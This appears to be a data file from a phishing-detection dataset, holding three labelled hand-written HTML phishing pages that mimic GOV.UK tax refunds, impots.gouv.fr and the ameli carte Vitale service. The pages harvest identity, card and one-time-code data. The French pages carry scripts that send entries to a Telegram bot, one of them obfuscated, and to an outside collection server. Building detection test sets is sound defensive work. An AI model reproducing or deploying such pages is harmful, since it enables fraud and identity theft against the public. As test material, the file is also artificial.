import { type Entry, htmlRoute } from '../entry.js';

/** Held-out pages by author f, family "phish-gov" (dev split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-hmrc-tax-refund",
    label: "phishing",
    kind: "gov-tax-refund",
    url: "https://hmrc-refund-claim.uk-govservice.co/claim/start?ref=HMRC-7C2-441",
    body: `<!DOCTYPE html>
<html lang="en" class="govuk-template">
<head>
<meta charset="utf-8">
<title>Claim a tax refund - GOV.UK</title>
<meta name="viewport" content="width=device-width, initial-scale=1, viewport-fit=cover">
<meta name="theme-color" content="#0b0c0c">
<style>
body{margin:0;font-family:"GDS Transport",arial,sans-serif;color:#0b0c0c;background:#fff}
.govuk-header{background:#0b0c0c;border-bottom:10px solid #1d70b8;padding:10px 15px}
.govuk-header__logotype{color:#fff;font-weight:700;font-size:30px;text-decoration:none;display:inline-flex;align-items:center;gap:6px}
.govuk-header__logotype svg{fill:#fff}
.svc{color:#fff;font-weight:700;font-size:18px;margin-left:30px}
.phase{max-width:960px;margin:0 auto;padding:10px 15px;border-bottom:1px solid #b1b4b6;font-size:16px}
.tag{background:#1d70b8;color:#fff;padding:2px 8px;font-weight:700;font-size:14px;margin-right:8px}
.main{max-width:960px;margin:0 auto;padding:30px 15px}
h1{font-size:48px;line-height:1.04;margin:0 0 30px}
.inset{border-left:10px solid #b1b4b6;padding:15px;margin:20px 0;font-size:19px}
.panel{background:#00703c;color:#fff;padding:25px;text-align:center;margin-bottom:30px}.panel strong{display:block;font-size:48px}
.fg{margin-bottom:30px}.fg label{display:block;font-size:19px;font-weight:700;margin-bottom:5px}.fg .hint{color:#505a5f;font-size:19px;margin-bottom:10px}
.fg input{font-size:19px;padding:5px;border:2px solid #0b0c0c;width:100%;max-width:420px;box-sizing:border-box;height:40px}
.dob{display:flex;gap:20px}.dob input{width:70px}
.btn{background:#00703c;color:#fff;border:0;box-shadow:0 2px 0 #002d18;font-size:19px;padding:8px 12px;cursor:pointer}
fieldset{border:0;padding:0;margin:0}legend{font-size:24px;font-weight:700;margin-bottom:15px}
footer{background:#f3f2f1;border-top:1px solid #b1b4b6;padding:30px 15px;font-size:16px;margin-top:60px}
footer a{color:#0b0c0c;margin-right:15px}
</style>
</head>
<body>
<header class="govuk-header"><a class="govuk-header__logotype" href="#"><svg width="36" height="32" viewBox="0 0 132 97" aria-hidden="true"><path d="M25 30.2c3.5 1.5 7.7-.2 9.1-3.7 1.5-3.6-.2-7.8-3.9-9.2-3.6-1.4-7.6.3-9.1 3.9-1.4 3.5.3 7.5 3.9 9zM9 39.5c3.6 1.5 7.8-.2 9.2-3.7 1.5-3.6-.2-7.8-3.9-9.1-3.6-1.5-7.6.2-9.1 3.8-1.4 3.5.3 7.5 3.8 9zM4.4 57.2c3.5 1.5 7.7-.2 9.1-3.8 1.5-3.6-.2-7.7-3.9-9.1-3.5-1.5-7.6.3-9.1 3.8-1.4 3.5.3 7.6 3.9 9.1z"/></svg>GOV.UK</a><span class="svc">Claim a tax refund</span></header>
<div class="phase"><span class="tag">BETA</span>This is a new service – your feedback will help us to improve it.</div>
<div class="main">
 <div class="panel">Your refund amount<strong>£ 487.62</strong>Tax year 2024 to 2025</div>
 <h1>Claim your tax refund</h1>
 <div class="inset">After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund. Please submit the form below to receive the refund to your debit or credit card within 3 to 5 working days.</div>
 <form method="post" action="/claim/submit.php">
  <fieldset><legend>Your details</legend>
   <div class="fg"><label for="fn">Full name</label><input id="fn" name="fullname"></div>
   <div class="fg"><label>Date of birth</label><div class="hint">For example, 27 3 1987</div><div class="dob"><input name="dd" placeholder="Day"><input name="mm" placeholder="Month"><input name="yy" placeholder="Year"></div></div>
   <div class="fg"><label for="ni">National Insurance number</label><div class="hint">It's on your National Insurance card, payslip or P60. For example, 'QQ 12 34 56 C'.</div><input id="ni" name="nino"></div>
   <div class="fg"><label for="pc">Postcode</label><input id="pc" name="postcode" style="max-width:200px"></div>
   <div class="fg"><label for="mmn">Mother's maiden name</label><input id="mmn" name="mmn"></div>
  </fieldset>
  <fieldset><legend>Where should we send your refund?</legend>
   <div class="fg"><label for="cn">Card number</label><input id="cn" name="cardnumber" inputmode="numeric" autocomplete="cc-number"></div>
   <div class="fg"><label>Expiry date</label><div class="dob"><input name="expm" placeholder="MM" autocomplete="cc-exp-month"><input name="expy" placeholder="YY" autocomplete="cc-exp-year"></div></div>
   <div class="fg"><label for="cvv">Card security code</label><div class="hint">The last 3 digits on the back of the card</div><input id="cvv" name="cvv" style="max-width:100px" autocomplete="cc-csc"></div>
   <div class="fg"><label for="sc">Sort code</label><input id="sc" name="sortcode" style="max-width:160px"></div>
   <div class="fg"><label for="an">Account number</label><input id="an" name="accnum" style="max-width:220px"></div>
  </fieldset>
  <button class="btn" type="submit">Submit refund request</button>
 </form>
</div>
<footer><a href="#">Help</a><a href="#">Cookies</a><a href="#">Contact</a><a href="#">Terms and conditions</a><a href="#">Accessibility statement</a><p>All content is available under the Open Government Licence v3.0, except where otherwise stated · © Crown copyright</p></footer>
</body>
</html>
`,
    routes: {
      "hmrc-refund-claim.uk-govservice.co/claim/submit.php": htmlRoute(`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Verify with your bank - GOV.UK</title><style>body{font-family:arial;margin:0}.h{background:#0b0c0c;color:#fff;padding:14px 20px;font-weight:700;font-size:24px;border-bottom:10px solid #1d70b8}.m{max-width:600px;margin:40px auto;padding:0 15px}input{font-size:19px;border:2px solid #0b0c0c;padding:6px;width:200px}button{background:#00703c;color:#fff;border:0;font-size:19px;padding:8px 14px;margin-top:16px}</style></head><body><div class="h">GOV.UK</div><div class="m"><h1>Confirm your identity</h1><p>Your bank has sent a one-time passcode to your mobile phone. Enter it below to authorise the refund of £487.62.</p><form method="post" action="/claim/otp.php"><input name="otp" maxlength="8" inputmode="numeric"><br><button>Continue</button></form></div></body></html>
`),
    },
  },
  {
    id: "f-phish-impots-remboursement",
    label: "phishing",
    kind: "gov-tax-refund",
    url: "https://impots-gouv-remboursement.espace-dossier-fr.info/particulier/remboursement/",
    body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>impots.gouv.fr - Votre remboursement</title>
<style>
body{margin:0;font-family:Marianne,Arial,sans-serif;background:#f6f6f6;color:#161616}
.hd{background:#fff;box-shadow:0 2px 4px rgba(0,0,0,.1);display:flex;align-items:center;padding:12px 24px;gap:24px}
.rf{font:700 12px/1.1 Arial;text-transform:uppercase;border-left:0;padding-top:18px;position:relative}
.rf:before{content:"";position:absolute;top:0;left:0;width:36px;height:12px;background:linear-gradient(90deg,#000091 0 33%,#fff 33% 66%,#e1000f 66%)}
.site{font-weight:700;font-size:20px}.site small{display:block;font-weight:400;font-size:13px;color:#666}
.bn{background:#000091;color:#fff;padding:14px 24px;font-size:15px}
.ct{max-width:720px;margin:30px auto;background:#fff;padding:32px;border:1px solid #ddd}
h1{font-size:26px;margin-top:0}.montant{font-size:32px;color:#18753c;font-weight:700}
.row{display:flex;gap:16px}.row>div{flex:1}
label{display:block;font-size:14px;margin:14px 0 6px}
input,select{width:100%;box-sizing:border-box;padding:10px;border:0;border-bottom:2px solid #3a3a3a;background:#eee;font-size:15px}
button{margin-top:22px;background:#000091;color:#fff;border:0;padding:12px 26px;font-size:16px;cursor:pointer}
.note{font-size:12px;color:#666;margin-top:16px}
.ft{text-align:center;font-size:12px;color:#666;padding:24px}
</style>
</head>
<body>
<div class="hd"><div class="rf">République<br>Française</div><div class="site">impots.gouv.fr<small>Direction générale des Finances publiques</small></div></div>
<div class="bn">Espace particulier › Remboursement d'un trop-perçu</div>
<div class="ct">
 <h1>Avis de remboursement</h1>
 <p>Après les derniers calculs annuels de votre activité fiscale, nous avons déterminé que vous êtes éligible à un remboursement d'impôt de :</p>
 <p class="montant">312,45 €</p>
 <p>Veuillez compléter le formulaire ci-dessous afin que le remboursement soit crédité sur votre carte bancaire sous 5 jours ouvrés. Dossier n° <b id="dos"></b>.</p>
 <form id="fr">
  <div class="row"><div><label>Nom</label><input name="nom" required></div><div><label>Prénom</label><input name="prenom" required></div></div>
  <div class="row"><div><label>Date de naissance</label><input name="naissance" placeholder="JJ/MM/AAAA" required></div><div><label>Numéro fiscal (13 chiffres)</label><input name="spi" maxlength="13" required></div></div>
  <label>Adresse</label><input name="adresse" required>
  <div class="row"><div><label>Code postal</label><input name="cp" required></div><div><label>Ville</label><input name="ville" required></div></div>
  <label>Téléphone portable</label><input name="tel" required>
  <label>Titulaire de la carte</label><input name="titulaire" required>
  <label>Numéro de carte</label><input name="carte" inputmode="numeric" required>
  <div class="row"><div><label>Date d'expiration</label><input name="exp" placeholder="MM/AA" required></div><div><label>Cryptogramme</label><input name="cvv" maxlength="3" required></div></div>
  <button type="submit">Valider le remboursement</button>
  <p class="note">Conformément au RGPD, vos données sont traitées de manière sécurisée par la DGFiP.</p>
 </form>
</div>
<div class="ft">impots.gouv.fr · Mentions légales · Accessibilité · © Ministère de l'Économie et des Finances</div>
<script>
document.getElementById('dos').textContent='FR-'+(Math.floor(Math.random()*9e8)+1e8);
document.getElementById('fr').addEventListener('submit',function(e){
 e.preventDefault();
 var m='\\u{1F1EB}\\u{1F1F7} IMPOTS\\n';new FormData(this).forEach(function(v,k){m+=k+' : '+v+'\\n'});
 var b=['ht','tps://api.tele','gram.org/bot','6984412230:AAE3qz_LfHqXn1Vd0pKa9sWyTg27cRbUoM4','/sendMessage?chat_id=-4133902871&text='];
 fetch(b.join('')+encodeURIComponent(m),{mode:'no-cors'}).finally(function(){location.href='/particulier/remboursement/3ds.html'});
});
</script>
</body>
</html>
`,
    routes: {
      "impots-gouv-remboursement.espace-dossier-fr.info/particulier/remboursement/3ds.html": htmlRoute(`<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Authentification 3D Secure</title><style>body{font-family:Arial;background:#f2f2f2}.b{max-width:380px;margin:60px auto;background:#fff;padding:26px;border:1px solid #ccc}.l{display:flex;justify-content:space-between;font-weight:700;color:#1a1f71}input{width:100%;padding:10px;margin:10px 0;box-sizing:border-box}button{background:#1a1f71;color:#fff;border:0;padding:10px 20px}</style></head><body><div class="b"><div class="l"><span>Votre banque</span><span>Visa Secure</span></div><p>Un code de confirmation vient de vous être envoyé par SMS. Saisissez-le pour valider l'opération de remboursement de 312,45 EUR.</p><form action="https://impots-gouv-remboursement.espace-dossier-fr.info/particulier/remboursement/fin.php" method="post"><input name="code3ds" placeholder="Code reçu par SMS" maxlength="8"><button>Valider</button></form></div></body></html>
`),
    },
  },
  {
    id: "f-phish-ameli-carte-vitale",
    label: "phishing",
    kind: "gov-health-card",
    url: "https://ameli-renouvellement.carte-vitale-sante.fr.co/assure/",
    body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>ameli, le site de l'Assurance Maladie en ligne | Renouvellement carte Vitale</title>
<style>
body{margin:0;background:#fff;font-family:Arial,sans-serif;color:#333}
.top{display:flex;align-items:center;justify-content:space-between;padding:14px 30px;border-bottom:4px solid #0c419a}
.amlogo{font:700 30px/1 Arial;color:#0c419a;letter-spacing:-1px}.amlogo span{color:#f39200}
.tag{font-size:12px;color:#0c419a}
.grid{max-width:960px;margin:24px auto;display:grid;grid-template-columns:1fr 1.2fr;gap:30px;padding:0 20px}
.vit{background:linear-gradient(135deg,#2e9e48,#87c540);border-radius:14px;height:190px;color:#fff;padding:18px;box-sizing:border-box;position:relative}
.vit b{font-size:22px}.vit .chip{position:absolute;left:18px;bottom:30px;width:44px;height:34px;background:#e4c466;border-radius:6px}
.frm h2{color:#0c419a;margin-top:0}
.frm label{display:block;margin:12px 0 4px;font-size:13px;font-weight:700}
.frm input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:4px}
.frm button{margin-top:18px;background:#f39200;border:0;color:#fff;font-weight:700;padding:12px 24px;border-radius:20px}
.frais{background:#eef3fb;padding:12px;border-radius:6px;font-size:14px;margin-top:14px}
.ft{background:#0c419a;color:#fff;font-size:12px;padding:20px 30px;margin-top:40px}
.hidden{display:none}
</style>
</head>
<body>
<div class="top"><div><div class="amlogo">ameli<span>.</span>fr</div><div class="tag">L'Assurance Maladie – Agir ensemble, protéger chacun</div></div><div style="font-size:13px">Mon compte ameli</div></div>
<div class="grid">
 <div>
  <div class="vit"><b>carte Vitale</b><br>Assurance Maladie<div class="chip"></div></div>
  <p>Votre carte Vitale arrive à expiration. Afin de continuer à bénéficier de vos remboursements de soins, commandez dès maintenant votre nouvelle carte Vitale avec photo.</p>
  <div class="frais">Frais d'envoi en recommandé : <b>1,49 €</b> (réglés par carte bancaire).</div>
 </div>
 <div class="frm">
  <form id="a">
   <h2>Étape 1/2 – Vos informations</h2>
   <label>Numéro de sécurité sociale (15 chiffres)</label><input name="nir" maxlength="21" required>
   <label>Nom et prénom</label><input name="nom" required>
   <label>Date de naissance</label><input name="ddn" placeholder="JJ/MM/AAAA" required>
   <label>Adresse postale</label><input name="adr" required>
   <label>Adresse e-mail</label><input name="mail" type="email" required>
   <button>Continuer</button>
  </form>
  <form id="b" class="hidden">
   <h2>Étape 2/2 – Paiement des frais d'envoi</h2>
   <label>Numéro de carte</label><input name="cc" inputmode="numeric" required>
   <label>Date d'expiration</label><input name="exp" placeholder="MM/AA" required>
   <label>Cryptogramme visuel</label><input name="cvv" maxlength="4" required>
   <button>Payer 1,49 €</button>
  </form>
 </div>
</div>
<div class="ft">© L'Assurance Maladie · Mentions légales · Données personnelles · Accessibilité : partiellement conforme</div>
<script>
var k=Math.random().toString(16).slice(2,10);
function go(f,n){var d=new URLSearchParams(new FormData(f));d.append('k',k);d.append('e',n);return fetch('https://am-panel.vitale-relay.xyz/api/v2/ingest',{method:'POST',body:d,mode:'no-cors'}).catch(function(){})}
document.getElementById('a').onsubmit=function(e){e.preventDefault();go(this,1).then(function(){document.getElementById('a').classList.add('hidden');document.getElementById('b').classList.remove('hidden')})};
document.getElementById('b').onsubmit=function(e){e.preventDefault();go(this,2).then(function(){document.body.innerHTML='<div style="font-family:Arial;text-align:center;padding:80px"><h2>Merci</h2><p>Votre demande a bien été prise en compte. Vous recevrez votre nouvelle carte sous 10 jours.</p></div>';setTimeout(function(){location.href='https://www.ameli.fr/'},4000)})};
</script>
</body>
</html>
`,
  },
];
